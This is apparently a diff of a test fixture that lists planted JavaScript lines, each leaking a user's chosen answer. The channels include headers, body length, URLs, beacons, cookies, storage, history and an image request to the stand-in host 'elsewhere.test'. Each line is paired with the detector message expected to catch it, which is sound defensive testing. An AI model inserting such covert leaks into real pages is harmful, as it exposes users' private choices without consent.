@@ -21,55 +21,58 @@ const CHOSEN = `
 `;
 
 /** What is planted, and what must be found. */
-export const PLANTS: Readonly<Record<string, { readonly line: string; readonly found: RegExp }>> = {
+export const PLANTS: Readonly<Record<string, { readonly line: string; readonly message: RegExp }>> = {
   "a header that tells the answer": {
     line: 'onChoice(() => {}); onSend((request) => ({ headers: { ...request.headers, "X-Page": String(chosen) } }));',
-    found: /^sending: headers differs$/,
+    message: /^sending: headers differs$/,
   },
   "a body that is longer for one answer": {
     line: 'onChoice(() => {}); onSend((request) => ({ body: request.body + " ".repeat(chosen) }));',
-    found: /^sending: body differs$/,
+    message: /^sending: body differs$/,
   },
   "an address that tells the answer": {
     line: "onChoice(() => {}); window.fetch = (address, request) => honest(address + (chosen ? '?' : ''), request);",
-    found: /^sending: url differs$/,
+    message: /^sending: url differs$/,
   },
   "a request when an answer is chosen": {
     line: 'onChoice(() => honest("/api/v1/health/live/"));',
-    found: /^requested before Send: GET .*health\/live/,
+    message: /^requested before Send: GET .*health\/live/,
   },
   "a beacon when an answer is chosen": {
     line: 'onChoice(() => navigator.sendBeacon("/api/v1/health/live/", "x"));',
-    found: /^requested before Send: POST .*health\/live/,
+    message: /^requested before Send: POST .*health\/live/,
   },
   "a second request for one answer": {
     line: 'onChoice(() => {}); onSend(() => { if (chosen) honest("/api/v1/health/live/"); return {}; });',
-    found: /^sending: 1 requests or 2$/,
+    message: /^sending: 1 requests or 2$/,
   },
   "a beacon when the page is left": {
     line: 'onChoice(() => {}); addEventListener("pagehide", () => navigator.sendBeacon("/api/v1/reports/", "x"));',
-    found: /^requested on leaving: POST .*reports/,
+    message: /^requested on leaving: POST .*reports/,
   },
-  "a cookie": { line: 'onChoice(() => { document.cookie = "seen=" + chosen; });', found: /^left behind: cookie seen$/ },
+  "a cookie": {
+    line: 'onChoice(() => { document.cookie = "seen=" + chosen; });',
+    message: /^left behind: cookie seen$/,
+  },
   "a note in the browser's storage": {
     line: 'onChoice(() => localStorage.setItem("seen", chosen));',
-    found: /^left behind: localStorage seen$/,
+    message: /^left behind: localStorage seen$/,
   },
   "an entry in the history": {
     line: 'onChoice(() => history.pushState(chosen, ""));',
-    found: /^left behind: history/,
+    message: /^left behind: history/,
   },
   "the answer in the address bar": {
     line: 'onChoice(() => { location.replace("#" + chosen); });',
-    found: /^the address differs$/,
+    message: /^the address differs$/,
   },
   "a word of randomness more for one answer": {
     line: "onChoice(() => { if (chosen) crypto.getRandomValues(new Uint32Array(1)); });",
-    found: /^the words asked of the system differ$/,
+    message: /^the words asked of the system differ$/,
   },
   "a picture from another host": {
     line: 'onChoice(() => { new Image().src = "http://elsewhere.test/" + chosen; });',
-    found: /^said: .*Content Security Policy/,
+    message: /^said: .*Content Security Policy/,
   },
 };
 
